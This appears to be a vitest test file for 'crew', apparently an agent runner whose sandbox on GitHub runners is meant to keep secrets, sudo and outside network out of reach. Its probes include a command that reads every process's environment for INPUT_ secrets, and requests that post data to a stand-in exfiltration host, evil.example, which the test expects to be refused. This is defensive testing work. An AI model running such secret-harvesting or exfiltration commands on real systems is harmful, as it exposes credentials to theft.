import { execFile } from 'node:child_process';
import { chmod, copyFile, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collector, serving, startEgressWorld } from '../../support/egress/world';
import { git } from '../../support/git-cli';
import { deepFolder, exitDelay, NODE24_SOCKETS } from '../../support/sandbox/deep-temp';
import { ensureRunnerUser, RUNNER_USER } from '../../support/sandbox/runner-user';

const exec = promisify(execFile);
const CANARIES = { INPUT_GITHUB_TOKEN: 'ghs_sudo_path_canary_0123456789abcdef', INPUT_ANTHROPIC_API_KEY: 'sk-ant-sudo-path-canary-0123456789' };

describe('the sandbox when crew runs as a non-root user with passwordless sudo (GitHub’s hosted runners)', () => {
  let dir: string;
  let workspace: string;

  beforeAll(async () => {
    const { uid, gid } = await ensureRunnerUser();
    dir = await mkdtemp(join(tmpdir(), 'sandbox-sudo-'));
    workspace = join(dir, 'ws');
    await mkdir(workspace);
    await git(['init', '--quiet', workspace]);
    await writeFile(join(workspace, 'README.md'), 'hello\n');
    await git(['-C', workspace, 'add', 'README.md']);
    await git(['-C', workspace, '-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '--quiet', '-m', 'the readme']);
    await exec('chown', ['-R', `${uid}:${gid}`, dir]);
  }, 300_000);
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  /** crew's process as the runner user, holding the secrets in its initial environment, runs one command through its runner. */
  async function probe(mode: 'sandboxed' | 'unsandboxed' | 'allowlist' | 'mcp' | 'base', command: string, extra: Record<string, string> = {}): Promise<string> {
    const script = join(__dirname, '..', '..', 'support', 'sandbox', 'probe.ts');
    const env = { PATH: process.env.PATH ?? '', HOME: `/home/${RUNNER_USER}`, ...CANARIES, ...extra };
    const { stdout } = await exec(
      'setpriv',
      [`--reuid=${RUNNER_USER}`, `--regid=${RUNNER_USER}`, '--init-groups', process.execPath, '--import', 'tsx', script, mode, workspace, dir, command],
      { env, cwd: join(__dirname, '..', '..', '..'), maxBuffer: 10_000_000 },
    );
    return stdout;
  }

  const LOOK =
    'id -un; echo pids=$(ls /proc | grep -c "^[0-9]"); cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -E "^INPUT_"; sudo -n true 2>/dev/null && echo HAS-SUDO || echo no-sudo';

  it("the base's own run (#46): crew, as that user, checks out the base in a home of its own that it hands to the tool user through sudo; the tool user's git reads it and can write there, the .npmrc planted in the shared home is not in it, and it is removed after", async () => {
    const out = await probe('base', 'id -un; cat "$HOME/.npmrc" 2>&1; git rev-parse HEAD; git status --porcelain; ls; echo x > written && echo wrote');
    const head = /^::head (\S+)$/m.exec(out)?.[1];
    expect(out).toContain('::planted 0');
    expect(out.split('\n').slice(1, 7)).toEqual([
      'crew-tool',
      expect.stringContaining('No such file or directory'),
      head,
      'README.md',
      'wrote',
      `::head ${head}`,
    ]);
    expect(out).toContain('::gone true');
  });

  it('crew, as that user, starts the tool user’s sandbox through sudo: no secret in reach, no sudo inside, only its own processes', async () => {
    const out = await probe('sandboxed', LOOK);
    expect(out.split('\n')[0]).toBe('crew-tool');
    expect(Number(/pids=(\d+)/.exec(out)?.[1])).toBeLessThan(10);
    for (const value of Object.values(CANARIES)) expect(out).not.toContain(value);
    expect(out).toContain('no-sudo');
    expect(out).not.toContain('HAS-SUDO');
  });

  it('with the egress allowlist on: a command reaches an allowed host by name through crew’s proxy, run as that user, and nothing else', async () => {
    const world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector });
    try {
      await copyFile(join(__dirname, '..', '..', 'support', 'egress', 'net-probe.cjs'), join(workspace, 'net-probe.cjs'));
      await chmod(join(workspace, 'net-probe.cjs'), 0o644);
      const evil = world.hosts.get('evil.example')!.address;
      const out = await probe(
        'allowlist',
        `id -un; node net-probe.cjs 'get|http://files.acme.test/data.txt' 'post|http://evil.example/collect|tree' 'connect|evil.example:443' 'tcp|${evil}|80' 'lookup|exfil.evil.example'; ${LOOK}`,
        { CREW_PROBE_ALLOW: 'files.acme.test', ...world.env },
      );
      const tries = Object.fromEntries(
        out
          .split('\n')
          .filter((l) => l.startsWith('{'))
          .map((l) => JSON.parse(l) as { what: string })
          .map((o) => [o.what, o as Record<string, unknown>]),
      );
      expect(out.split('\n')[0]).toBe('crew-tool');
      expect(tries['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      expect(tries['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
      expect(tries['connect|evil.example:443']).toMatchObject({ status: 403 });
      expect(tries[`tcp|${evil}|80`]!.connected).toBeUndefined();
      expect(tries['lookup|exfil.evil.example']!.error).toBeTruthy();
      expect(world.hosts.get('evil.example')!.reached).toEqual([]);
      expect(world.queries).toEqual(['files.acme.test']);
      expect(JSON.parse(/::refused (.*)/.exec(out)![1]!)).toEqual({ 'evil.example': 2 });
      // The rest of the sandbox holds as without the allowlist.
      for (const value of Object.values(CANARIES)) expect(out).not.toContain(value);
      expect(out).toContain('no-sudo');
    } finally {
      await world.close();
    }
  });

  it('an MCP server (#36) starts through sudo as the tool user with only its named variable, and a hanging one is stopped, processes and all', async () => {
    const servers = join(__dirname, '..', '..', 'support', 'mcp', 'servers.mjs');
    const out = await probe('mcp', servers, { FACTS_TOKEN: 'facts-sudo-token-77' });
    const seen = JSON.parse(out.split('\n')[0]!) as { user: string; env: Record<string, string>; cwd: string; cwdWritable: boolean; home: string[] };
    expect(seen.user).toBe('crew-tool');
    // The agent's command planted an .npmrc and an npx cache in the tool user's home; the server, which holds a secret,
    // has a home of its own that crew made after that, holding only the tool user's git config and an empty temporary folder, and removed after.
    const planted = /^::planted 0 (\S+)$/m.exec(out)?.[1];
    expect(planted).toBe(join(dir, 'crew-tool-home'));
    expect(seen.env.HOME).not.toBe(planted);
    expect(seen.env.HOME!.startsWith(join(dir, 'crew-sandbox', 'homes', 'home-'))).toBe(true);
    expect(seen.home).toEqual(['.gitconfig', 'tmp']);
    expect(out).toContain('::homes 1');
    expect(out).toContain('::homes-after 0');
    // Started in the copy of the reviewed commit crew's user made: the tool user reads it through sudo, and cannot write there.
    expect(seen.cwd.startsWith(join(dir, 'crew-mcp-reviewed-'))).toBe(true);
    expect(seen.cwdWritable).toBe(false);
    expect(seen.env.FACTS_TOKEN).toBe('***');
    for (const value of Object.values(CANARIES)) expect(out).not.toContain(value);
    expect(Object.keys(seen.env).filter((k) => k.startsWith('INPUT_'))).toEqual([]);
    expect(out).toMatch(/::note MCP server `slow` not started: it did not start and list its tools within 2 s/);
    expect(out).toContain('::left 0');
  }, 120_000);

  describe('with a runner temp folder 150 characters deep, which TMPDIR names too (#46)', () => {
    let deep: string;
    let ws: string;

    beforeAll(async () => {
      deep = await deepFolder(join(dir, 'deep'), 150);
      ws = join(deep, 'ws');
      await mkdir(ws);
      await git(['init', '--quiet', ws]);
      await copyFile(join(__dirname, '..', '..', 'support', 'egress', 'net-probe.cjs'), join(ws, 'net-probe.cjs'));
      await exec('chown', ['-R', `${RUNNER_USER}:${RUNNER_USER}`, join(dir, 'deep')]);
    });

    /** crew's code as the runner user in a process of its own, as in a job: Node 24's socket rules, the deep folder as RUNNER_TEMP and TMPDIR. */
    async function asRunner(script: string, args: string[], extra: Record<string, string> = {}): Promise<{ stdout: string; endedAt: number }> {
      const env = { PATH: process.env.PATH ?? '', HOME: `/home/${RUNNER_USER}`, TMPDIR: deep, RUNNER_TEMP: deep, ...extra };
      const path = join(__dirname, '..', '..', 'support', 'sandbox', script);
      const { stdout } = await exec(
        'setpriv',
        [`--reuid=${RUNNER_USER}`, `--regid=${RUNNER_USER}`, '--init-groups', process.execPath, ...NODE24_SOCKETS, '--import', 'tsx', path, ...args],
        { env, cwd: join(__dirname, '..', '..', '..'), timeout: 30_000 },
      );
      return { stdout, endedAt: Date.now() };
    }

    it('the allowlist still starts through sudo, and setup reaches an allowed host', async () => {
      const world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes') });
      try {
        const { stdout } = await asRunner('probe.ts', ['allowlist', ws, deep, `id -un; node net-probe.cjs 'get|http://files.acme.test/data.txt'`], {
          CREW_PROBE_ALLOW: 'files.acme.test',
          ...world.env,
        });
        expect(stdout.split('\n')[0]).toBe('crew-tool');
        expect(stdout).toContain('"status":200');
        expect(stdout).toContain('allowed bytes');
      } finally {
        await world.close();
      }
    }, 60_000);

    it('a job whose proxy is made to fail falls back to setup without network and exits within seconds of its last line', async () => {
      const { stdout, endedAt } = await asRunner('job-probe.ts', [ws, deep, 'id -un'], { CREW_TEST_UNIX_LISTEN_FAULT: '1' });
      expect(stdout).toContain("crew's egress allowlist could not be set up: crew's egress proxy did not start (listen EACCES");
      expect(stdout).toContain('::mode offline setup ok');
      expect(exitDelay(stdout, endedAt)).toBeLessThan(5_000);
    }, 60_000);
  });

  it('the same command without the sandbox would have found the secrets and sudo (so the probe can tell)', async () => {
    const out = await probe('unsandboxed', LOOK);
    expect(out.split('\n')[0]).toBe(RUNNER_USER);
    expect(out).toContain(CANARIES.INPUT_GITHUB_TOKEN);
    expect(out).toContain('HAS-SUDO');
  });
});
